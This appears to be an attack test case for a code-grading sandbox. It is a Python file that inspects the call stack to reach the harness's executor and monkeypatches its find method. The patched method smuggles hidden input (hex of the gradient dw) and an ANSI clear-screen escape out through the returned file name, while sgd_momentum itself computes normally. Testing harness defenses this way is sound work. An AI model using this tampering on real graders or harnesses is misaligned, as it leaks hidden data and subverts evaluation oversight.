# /// attack
# file = "optim.py"
# modes = "any"
# [expects]
# sgd_momentum = "bad_output"
# ///
"""Carries a hidden input out as the name of the file in which the function was found."""

import sys

secret = "\x1b[2JEXFILTRATED"
frame = sys._getframe()
while "executor" not in frame.f_locals:
    frame = frame.f_back
Executor = type(frame.f_locals["executor"])
find = Executor.find
Executor.find = lambda executor, file, name: (find(executor, file, name)[0], secret)


def sgd_momentum(w, dw, config=None):
    global secret
    secret = "EXFILTRATED" + dw.tobytes().hex()[:64]
    config = {"learning_rate": 1e-2, "momentum": 0.9, **(config or {})}
    v = config["momentum"] * config.get("velocity", 0 * w) - config["learning_rate"] * dw
    config["velocity"] = v
    return w + v, config
